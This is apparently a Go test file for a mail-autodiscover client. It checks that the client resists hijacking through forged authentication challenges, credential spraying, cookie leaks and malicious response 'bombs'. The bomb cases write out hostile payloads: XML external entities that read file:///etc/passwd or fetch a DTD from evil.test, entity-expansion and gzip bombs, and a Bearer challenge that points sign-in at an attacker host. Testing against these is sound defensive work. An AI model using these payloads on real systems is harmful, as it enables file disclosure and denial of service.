package autodiscover

import (
	"bytes"
	"compress/gzip"
	"fmt"
	"io"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/homing-mail/homing/internal/trust"
)

// bears asks for Bearer and takes ann's token.
func bears(h http.HandlerFunc) http.HandlerFunc {
	return func(res http.ResponseWriter, req *http.Request) {
		if req.Header.Get("Authorization") != "Bearer "+bearerToken {
			fails(401, "WWW-Authenticate", "Bearer")(res, req)
			return
		}
		h(res, req)
	}
}

// The challenge is made so that something weaker, or somebody else's, is sent.
func TestHijackByAChallenge(t *testing.T) {
	asks := func(challenges ...string) http.HandlerFunc {
		return func(res http.ResponseWriter, _ *http.Request) {
			res.Header()["Www-Authenticate"] = challenges
			res.WriteHeader(401)
		}
	}
	asked := func(logins func() Logins, challenges ...string) func(*scene) {
		return func(s *scene) {
			s.hosts[auto], s.query.Logins, s.query.Exclude = asks(challenges...), logins(), noHTTP
		}
	}
	tokens := func() Logins { return withToken() }
	passwords := func() Logins { return withPassword("*.contoso.test") }
	since := func() Logins { // a password for a realm where more than Basic has worked
		return wallet{"*.contoso.test": {User: "ann", Secret: trust.NewSecret(password), Weakest: trust.NTLM}}
	}
	bearer := func(s *scene) { s.hosts[auto] = bears(serves(string(settingsXML))) }
	// What Exchange sends, with the attacker's place in it, and the twin: ann is led
	// there by a redirect, and a person has said yes.
	const hostile = `Bearer client_id="00000002-0000-0ff1-ce00-000000000000", trusted_issuers="00000001-0000-0000-c000-000000000000@*", ` +
		`token_types="app_asserted_user_v1", authorization_uri="https://evil.test/autodiscover/authorize", resource_metadata="https://evil.test/autodiscover/metadata"`
	evil := func(s *scene) {
		s.hosts[auto], s.query.Logins = sends(302, at("evil.test")), withPassword("*.evil.test")
		allow("evil.test")(s)
	}
	const downgrade = "authentication downgrade"
	tell(t, []story{
		{name: "Basic alone, where ann has a token", stage: asked(tokens, `Basic realm="contoso"`), kind: Unauthorized, why: downgrade, legit: bearer, there: auto},
		{name: "NTLM and Basic, where ann has a token", stage: asked(tokens, "NTLM", "Basic"), kind: Unauthorized, why: downgrade, legit: bearer, there: auto},
		{name: "Basic alone, where NTLM has worked before", stage: asked(since, "Basic"), kind: Unauthorized, why: downgrade,
			legit: func(s *scene) { opens(auto)(s); s.query.Logins = withPassword("*.contoso.test") }, there: auto},
		{name: "Basic alone, at a host where the administrator has it nowhere", kind: Unauthorized, why: "trust.basic does not name it",
			stage: func(s *scene) {
				asked(passwords, "Negotiate", "Basic")(s)
				s.query.Rules.Basic = []string{"mx.contoso.test"}
			}, legit: func(s *scene) { opens(auto)(s); s.query.Rules.Basic = []string{auto} }, there: auto},
		{name: "NTLM alone, for somebody to relay", stage: asked(passwords, "NTLM"), kind: Unauthorized, why: "offers ntlm", legit: opens(auto), there: auto},
		{name: "Negotiate alone", stage: asked(passwords, "Negotiate"), kind: Unauthorized, why: "offers negotiate", legit: opens(auto), there: auto},
		{name: "Basic in the prose of another scheme", stage: asked(passwords, `Negotiate realm="x, Basic realm=\"y\", Basic"`), kind: Unauthorized, why: "offers negotiate", legit: opens(auto), there: auto},
		{name: "Basic as a parameter of another scheme", stage: asked(passwords, `Digest Basic="x", Basic=y`), kind: Unauthorized, why: "offers digest", legit: opens(auto), there: auto},
		{name: "a Proxy-Authenticate of the host itself", kind: Malformed, why: "HTTP 407",
			stage: func(s *scene) {
				s.hosts[auto], s.query.Exclude = fails(407, "Proxy-Authenticate", "Basic"), noHTTP
			}, legit: opens(auto), there: auto},
		{name: "Bearer at first, and Basic once the token is there", kind: Unauthorized, why: downgrade, signed: []string{auto},
			stage: func(s *scene) {
				s.visits, s.query.Exclude, s.query.Logins = 2, noHTTP, withToken()
				s.hosts[auto] = func(res http.ResponseWriter, req *http.Request) {
					if req.Header.Get("Authorization") == "" {
						fails(401, "WWW-Authenticate", "Bearer")(res, req)
						return
					}
					fails(401, "WWW-Authenticate", "Basic")(res, req)
				}
			}, legit: bearer, there: auto},
		{name: "the authority of ann's own domain, named by another host that is configured", kind: Unauthorized, why: "no sign-in for " + autoF,
			stage: func(s *scene) {
				s.hosts[autoF], s.query.Logins, s.query.Exclude = asks(`Bearer realm="contoso.test", authorization_uri="https://login.contoso.test/"`), withToken(), noHTTP
				s.query.First = []Candidate{{URL: at(autoF), How: trust.FromConfiguration}}
			}, legit: func(s *scene) { s.hosts[auto] = bears(serves(string(settingsXML))) }, there: auto},
		{name: "an authority of the attacker's, who would have ann sign in there", kind: Unauthorized, why: "offers bearer", silent: []string{"evil.test:443", "evil.test:80"},
			stage: func(s *scene) {
				asked(passwords, hostile)(s)
				s.hosts["evil.test"], s.hosts["http://evil.test"] = home(), home()
			}, legit: evil, there: "evil.test"},
		{name: "an authority of the attacker's, where ann has a token", found: auto, why: "settings", signed: []string{auto}, silent: []string{"evil.test:443", "evil.test:80"},
			stage: func(s *scene) {
				s.query.Logins, s.query.Exclude = withToken(), noHTTP
				s.hosts["evil.test"], s.hosts["http://evil.test"] = home(), home()
				s.hosts[auto] = func(res http.ResponseWriter, req *http.Request) {
					if req.Header.Get("Authorization") != "Bearer "+bearerToken {
						asks(hostile)(res, req)
						return
					}
					serves(string(settingsXML))(res, req)
				}
			}, legit: evil, there: "evil.test"},
		{name: "the realm of ann's own domain, said by another host that is allowed", kind: Unauthorized, why: "no sign-in for " + stranger,
			stage: func(s *scene) {
				s.records, s.query.Exclude, s.query.Logins = srv(stranger), noHTTP, withPassword("*.contoso.test")
				allow(stranger)(s)
				s.hosts[stranger] = func(res http.ResponseWriter, req *http.Request) {
					if req.Header.Get("Authorization") == "" {
						fails(401, "WWW-Authenticate", `Basic realm="autodiscover.contoso.test"`)(res, req)
						return
					}
					home()(res, req)
				}
			}, legit: func(s *scene) { s.query.Logins = withPassword("*.contoso.test", "*.tailspin.test") }, there: stranger},
	})
}

// A sign-in that is refused is not shown to everybody else, and a cookie to nobody.
func TestHijackBySpraying(t *testing.T) {
	refuses := fails(401, "WWW-Authenticate", `Basic realm="x"`)
	var first []Candidate
	for i := range 33 {
		first = append(first, Candidate{URL: at(fmt.Sprintf("h%d.contoso.test", i)), How: trust.FromConfiguration})
	}
	var strangers []string
	for i := range 5 {
		strangers = append(strangers, fmt.Sprintf("mx%d.tailspin.test", i))
	}
	bakes := func(h http.HandlerFunc) http.HandlerFunc {
		return func(res http.ResponseWriter, req *http.Request) {
			res.Header().Add("Set-Cookie", "track=ann; Domain=contoso.test; Path=/")
			res.Header().Add("Set-Cookie", "X-BackEndCookie=1; Path=/")
			h(res, req)
		}
	}
	tell(t, []story{
		{name: "33 candidates that want a sign-in, and refuse it", kind: Limit, why: "more than 20 candidates", signed: []string{"h0.contoso.test"},
			stage: func(s *scene) {
				s.query.First, s.query.Exclude = first, noHTTP
				for _, c := range first {
					s.hosts[hostname(c.URL)] = refuses
				}
			}, legit: opens("h0.contoso.test"), there: "h0.contoso.test"},
		{name: "two realms refuse, and the third is not tried", kind: Unauthorized, why: "the sign-in of ann was refused", signed: []string{auto, autoF},
			stage: func(s *scene) {
				s.query.First, s.query.Exclude = []Candidate{{URL: at(auto), How: trust.FromProfile}, {URL: at(autoF), How: trust.FromConfiguration}, {URL: at(stranger), How: trust.FromConfiguration}}, noHTTP
				s.hosts[auto], s.hosts[autoF], s.hosts[stranger] = refuses, refuses, home()
			}, legit: func(s *scene) { delete(s.hosts, auto) }, there: stranger},
		{name: "of five foreign hosts that are allowed, three see a sign-in", kind: Limit, why: "more than 3 hosts outside the mail domain", signed: strangers[:3],
			stage: func(s *scene) {
				s.records, s.query.Exclude = srv(strangers...), noHTTP
				for _, host := range strangers {
					s.hosts[host] = secured(serves(answeredError))
					allow(host)(s)
				}
			}, legit: func(s *scene) { s.query.Rules.Trusted = []string{"mx2.tailspin.test"} }, there: "mx3.tailspin.test"},
		{name: "cookies of a probe, of a refusal and of a redirect come back to nobody", found: mx, why: "settings", signed: []string{auto, mx},
			stage: func(s *scene) {
				s.hosts[clear], s.hosts[auto] = bakes(fails(404)), bakes(secured(sends(302, at(mx))))
				s.hosts[mx] = func(res http.ResponseWriter, req *http.Request) {
					if req.Header.Get("Cookie") != "" {
						fails(500)(res, req)
						return
					}
					bakes(home())(res, req)
				}
			}, legit: opens(auto), there: auto},
	})
}

// unending answers and does not come to an end.
func unending(res http.ResponseWriter, _ *http.Request) {
	for block := bytes.Repeat([]byte("<a>"), 4096); ; {
		if _, err := res.Write(block); err != nil {
			return
		}
	}
}

// zipped is an answer in gzip.
func zipped(document string) http.HandlerFunc {
	return func(res http.ResponseWriter, _ *http.Request) {
		res.Header().Set("Content-Encoding", "gzip")
		z := gzip.NewWriter(res)
		io.WriteString(z, document)
		z.Close()
	}
}

// drips answers a document, a byte each second.
func drips(document string) http.HandlerFunc {
	return func(res http.ResponseWriter, req *http.Request) {
		for i := range document {
			if _, err := io.WriteString(res, document[i:i+1]); err != nil || req.Context().Err() != nil {
				panic(http.ErrAbortHandler) // to return would be to end the answer well
			}
			http.NewResponseController(res).Flush()
			pass(req, time.Second)
		}
	}
}

// A better place answers what is made to hold the discovery up or to break it;
// the next one has the mailbox. The twin has it at the better one.
func TestHijackByABomb(t *testing.T) {
	repeat := strings.Repeat
	mailbox := string(settingsXML)
	entity := func(decl, use string) http.HandlerFunc {
		return serves(`<?xml version="1.0"?><!DOCTYPE a [` + decl + `]>` + settled("<DisplayName>"+use+"</DisplayName>", ""))
	}
	bombs := []struct {
		name   string
		why    string
		bomb   http.HandlerFunc
		within time.Duration
	}{
		{"of size", "more than 1048576 bytes", serves("<!--" + repeat("x", 2<<20) + "-->" + mailbox), time.Second},
		{"of size, without an end", "more than 1048576 bytes", unending, time.Second},
		{"of depth", "levels", serves(repeat("<a>", 100_000)), time.Second},
		{"of elements", "elements", serves(settled("", repeat("<a/>", 100_000))), time.Second},
		{"of attributes", "attributes", serves("<a " + repeat(`b="c" `, 1000) + "/>"), time.Second},
		{"of gzip, which nobody asked for", "not UTF-8", zipped(mailbox + repeat(" ", 1<<26)), time.Second},
		{"of entities", "a document type", entity(`<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">`, "&b;"), time.Second},
		{"of an entity that is a file", "a document type", entity(`<!ENTITY a SYSTEM "file:///etc/passwd">`, "&a;"), time.Second},
		{"of an entity that is at a stranger's", "a document type", entity(`<!ENTITY % a SYSTEM "https://evil.test/a.dtd">%a;`, ""), time.Second},
		{"of headers", "exceeded", func(res http.ResponseWriter, _ *http.Request) { res.Header().Set("X-Long", repeat("x", 1<<20)) }, time.Second},
		{"of a body that drips", "no answer within 25s", drips(mailbox + repeat(" ", 100)), candidateLimit + time.Second},
		{"of a head that does not come", "timeout awaiting response headers", slowly(time.Minute, serves(mailbox)), headerLimit + time.Second},
		{"of an answer that breaks off", "broke off", func(res http.ResponseWriter, _ *http.Request) {
			res.Header().Set("Content-Length", "100000")
			io.WriteString(res, mailbox)
		}, time.Second},
	}
	var stories []story
	for _, tt := range bombs {
		why, within := tt.why, tt.within
		if tt.within > hold+time.Second { // it hangs: the next one does not wait for its end
			why, within = "put off after 2 s: another one answers", hold+time.Second
			stories = append(stories, story{
				name: tt.name + ", and nobody else lives", kind: Unreachable, why: tt.why, within: tt.within, signed: []string{auto},
				stage: func(s *scene) {
					s.query.Exclude = noHTTP
					s.hosts[auto] = secured(tt.bomb)
				}, legit: opens(auto), there: auto,
			})
		}
		stories = append(stories, story{
			name: tt.name, found: root, why: why, within: within, signed: []string{auto, root}, silent: []string{"evil.test:443"},
			stage: func(s *scene) {
				s.query.Exclude = noHTTP
				s.hosts[auto], s.hosts[root], s.hosts["evil.test"] = secured(tt.bomb), home(), home()
			}, legit: opens(auto), there: auto,
		}, story{
			name: tt.name + ", at first contact", found: root, why: "settings", within: tt.within, signed: []string{root}, silent: []string{"evil.test:443"},
			stage: func(s *scene) {
				s.query.Exclude = noHTTP
				s.hosts[auto], s.hosts[root], s.hosts["evil.test"] = unready(tt.bomb), home(), home()
			}, legit: opens(auto), there: auto,
		}, story{
			name: tt.name + ", of a stranger", kind: Untrusted, why: "outside the mail domain", within: tt.within, signed: []string{auto}, silent: []string{"evil.test:443"},
			stage: func(s *scene) {
				s.query.Exclude = noHTTP
				s.hosts[auto], s.hosts[stranger] = secured(sends(302, at(stranger))), unready(tt.bomb)
			}, legit: func(s *scene) { allow(stranger)(s); opens(stranger)(s) }, there: stranger,
		})
	}
	tell(t, stories)
}

// unready answers as h does, with a status that leads nowhere.
func unready(h http.HandlerFunc) http.HandlerFunc {
	return func(res http.ResponseWriter, req *http.Request) { h(&statused{ResponseWriter: res}, req) }
}

// statused is a writer of answers whose status is 404.
type statused struct {
	http.ResponseWriter
	told bool
}

func (s *statused) Write(p []byte) (int, error) {
	if !s.told {
		s.told = true
		s.ResponseWriter.WriteHeader(http.StatusNotFound)
	}
	return s.ResponseWriter.Write(p)
}

func (s *statused) Unwrap() http.ResponseWriter { return s.ResponseWriter }
